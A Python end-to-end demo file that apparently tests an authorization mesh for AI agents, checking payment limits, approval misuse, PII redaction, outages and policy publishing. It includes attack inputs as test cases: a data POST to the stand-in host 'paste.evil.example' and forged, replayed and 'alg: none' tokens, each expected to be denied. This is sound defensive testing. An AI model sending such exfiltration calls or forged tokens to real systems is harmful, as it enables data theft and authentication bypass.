"""The scenario: what a security engineer wants to see before she trusts the thing.

Each chapter makes real calls through the real mesh and returns what it expected and what it got.
`make demo` prints them as a table, tests/e2e asserts them.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from aegis_authz.demo.agent import Agent, Reply
from aegis_authz.demo.mesh import DemoMesh
from aegis_authz.encoding import base64url
from aegis_authz.local.settings import LOCAL_BUDGET_MS

PAYMENTS = "http://api.stripe.example/v1/payments"
RECORD = "http://ehr.example/records/p-17"
DEPLOYMENTS = "http://deploys.example/deployments"
_MARGIN_MS = 50
"""How much longer than its budget a decision may take until it is recorded."""
_PATIENCE = 15.0


@dataclass(frozen=True, slots=True)
class Row:
    """One line of the table. `ok` says whether the answer is as expected, down to what the tool received."""

    chapter: str
    call: str
    expected: str
    answer: str
    reason: str
    ms: float
    decision_id: str
    ok: bool


Chapter = Callable[[DemoMesh, Agent], Awaitable[list[Row]]]


def row(chapter: str, call: str, reply: Reply, decision: str, reason: str, also: bool = True) -> Row:
    """A line that is ok when decision and reason are the expected ones and `also` holds."""
    return Row(
        chapter=chapter,
        call=call,
        expected=f"{decision} {reason}",
        answer=reply.decision,
        reason=reply.reason,
        ms=reply.ms,
        decision_id=reply.decision_id,
        ok=reply.decision == decision and reply.reason == reason and also,
    )


async def payments(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """A payment within the limit, and one far beyond it."""
    small = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 4200})
    large = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 50000})
    text = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": "4200"})
    has_advice = "10000" in large.body and "Do not retry" in large.body
    return [
        row("payments", "pay 4,200", small, "allow", "ALLOWED", small.status == 201),
        row("payments", "pay 50,000", large, "deny", "POLICY_DENIED", large.status == 403 and has_advice),
        row("payments", 'pay "4200" (text)', text, "deny", "PARAMETER_TYPE"),
    ]


async def approvals(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """A held payment, approved by a person, and every way to abuse the approval."""
    hold = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 7000})
    override = await mesh.approve(hold.approval_id)
    substitute = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 7001}, override=override)
    thief = await agent.call("clinic-agent", "POST", PAYMENTS, {"amount": 7000}, override=override)
    paid = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 7000}, override=override)
    again = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 7000}, override=override)
    release = {"environment": "production", "version": "1.2"}
    deploy = await agent.call("deploy-agent", "POST", DEPLOYMENTS, release)
    is_shown = await mesh.approve_on_page(deploy.approval_id, "the release of today")
    rolled = await agent.call("deploy-agent", "POST", DEPLOYMENTS, release)
    once_more = await agent.call("deploy-agent", "POST", DEPLOYMENTS, release)
    name = "approvals"
    return [
        row(name, "pay 7,000", hold, "approval_needed", "APPROVAL_NEEDED", hold.approval_id.startswith("apr_")),
        row(name, "approved; pay 7,001", substitute, "deny", "APPROVAL_MISMATCH"),
        row(name, "approved; another agent", thief, "deny", "APPROVAL_MISMATCH"),
        row(name, "approved; pay 7,000", paid, "allow", "APPROVED", paid.status == 201),
        row(name, "the same override again", again, "deny", "APPROVAL_USED"),
        row(name, "deploy to production", deploy, "approval_needed", "APPROVAL_NEEDED"),
        row(name, "approved on its page; deploy", rolled, "allow", "APPROVED", rolled.status == 202 and is_shown),
        row(name, "deploy once more", once_more, "approval_needed", "APPROVAL_NEEDED"),
    ]


async def sanitize(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """A body with an SSN and a date of birth, redacted on the way in and on the way out."""
    note = {"note": "SSN 078-05-1120, date of birth 1961-07-04"}
    reply = await agent.call("clinic-agent", "PUT", RECORD, note)
    received = str(mesh.tools.received.get("/records/p-17", {}).get("body", ""))
    clean_in = bool(received) and "078-05-1120" not in received and "1961-07-04" not in received
    clean_out = reply.status == 200 and not any(
        raw in reply.body for raw in ("078-05-1120", "1961-07-04", "penicillin")
    )
    redacted = "REDACTED" in received and "REDACTED" in reply.body and "Ada Example" in reply.body
    return [
        row("sanitize", "update a patient record", reply, "sanitize", "SANITIZED", clean_in and clean_out and redacted)
    ]


async def tokens(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """Every bad token, each with its own reason."""
    good = agent.tokens.mint("finance-agent")
    head, payload, _ = good.split(".")
    none = base64url.encode(json.dumps({"alg": "none", "typ": "aegis+jwt"}).encode()).decode("ascii")

    async def pay(token: str) -> Reply:
        return await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 4200}, token=token)

    first, second = await pay(good), await pay(good)
    expired = await pay(agent.tokens.mint("finance-agent", age=120))
    forged = await pay(agent.tokens.mint("finance-agent", key=Ed25519PrivateKey.generate()))
    altered = await pay(f"{head}.{payload}.{'A' * 86}")
    unsigned = await pay(f"{none}.{payload}.")
    missing = await pay("")
    name = "tokens"
    return [
        row(name, "a token once", first, "allow", "ALLOWED"),
        row(name, "the same token twice", second, "deny", "REPLAYED"),
        row(name, "an expired token", expired, "deny", "CREDENTIAL_EXPIRED"),
        row(name, "a token of an unknown key", forged, "deny", "CREDENTIAL_UNTRUSTED"),
        row(name, "a forged signature", altered, "deny", "CREDENTIAL_INVALID"),
        row(name, "alg: none", unsigned, "deny", "CREDENTIAL_UNSIGNED"),
        row(name, "no token", missing, "deny", "CREDENTIAL_MISSING", missing.status == 401),
    ]


async def egress(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """A host nobody listed."""
    reply = await agent.call("finance-agent", "POST", "http://paste.evil.example/", {"data": "x"})
    return [row("egress", "post to an unlisted host", reply, "deny", "EGRESS_DENIED")]


async def shadow(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """A policy that only observes: the call goes through, the record says what it would have done."""
    reply = await agent.call("observer-agent", "POST", PAYMENTS, {"amount": 4200})
    record = agent.record(reply.decision_id) or {}
    return [row("shadow", "pay 4,200 (would be denied)", reply, "allow", "SHADOWED", record.get("would") == "deny")]


async def opa_outage(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """The policy engine dies and comes back."""
    return await _outage(mesh, agent, "opa", "PDP_UNAVAILABLE", "PDP_TIMEOUT")


async def redis_outage(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """The replay store dies and comes back."""
    return await _outage(mesh, agent, "redis", "STORE_UNAVAILABLE", "STORE_TIMEOUT")


async def _outage(mesh: DemoMesh, agent: Agent, process: str, down: str, hung: str) -> list[Row]:
    async def pay() -> Reply:
        return await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 100})

    pid = mesh.pids()[process]
    os.kill(pid, signal.SIGSTOP)
    await asyncio.to_thread(_wait_until_still, pid)
    frozen = await pay()
    os.kill(pid, signal.SIGKILL)
    dead = await _first_not(pay, hung)
    back = await _until_allowed(pay)
    frozen_ms = float((agent.record(frozen.decision_id) or {}).get("total_ms", 1e9))
    return [
        row("outage", f"{process} hangs", frozen, "deny", hung, frozen_ms < LOCAL_BUDGET_MS + _MARGIN_MS),
        row("outage", f"{process} is dead", dead, "deny", down),
        row("outage", f"{process} is back", back, "allow", "ALLOWED"),
    ]


def _wait_until_still(pid: int) -> None:
    """Return once every thread stands still: the signal stops them when the thread that takes it runs."""
    deadline = time.monotonic() + _PATIENCE
    while not _is_still(pid) and time.monotonic() < deadline:
        time.sleep(0.01)


def _is_still(pid: int) -> bool:
    stats = [path.read_text() for path in Path(f"/proc/{pid}/task").glob("*/stat")]
    return all(stat.rpartition(")")[2].split()[0] == "T" for stat in stats)


async def _first_not(pay: Callable[[], Awaitable[Reply]], reason: str) -> Reply:
    deadline = time.monotonic() + _PATIENCE
    while (reply := await pay()).reason == reason and time.monotonic() < deadline:
        pass  # the killed process has not been torn down yet
    return reply


async def _until_allowed(pay: Callable[[], Awaitable[Reply]]) -> Reply:
    deadline = time.monotonic() + _PATIENCE
    while (reply := await pay()).decision != "allow" and time.monotonic() < deadline:  # noqa: ASYNC110  # asks anew
        await asyncio.sleep(0.05)
    return reply


async def publish(mesh: DemoMesh, agent: Agent) -> list[Row]:
    """A policy is edited and published; the next call is judged by it."""
    before = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 3000})
    mesh.edit_policy("finance-agent", "approval_needed_over: 5000", "approval_needed_over: 2000")
    revision = await mesh.publish()
    after = await agent.call("finance-agent", "POST", PAYMENTS, {"amount": 3000})
    record = agent.record(after.decision_id) or {}
    return [
        row("publish", "pay 3,000 before", before, "allow", "ALLOWED"),
        row(
            "publish",
            "pay 3,000 after",
            after,
            "approval_needed",
            "APPROVAL_NEEDED",
            record.get("revision") == revision,
        ),
    ]
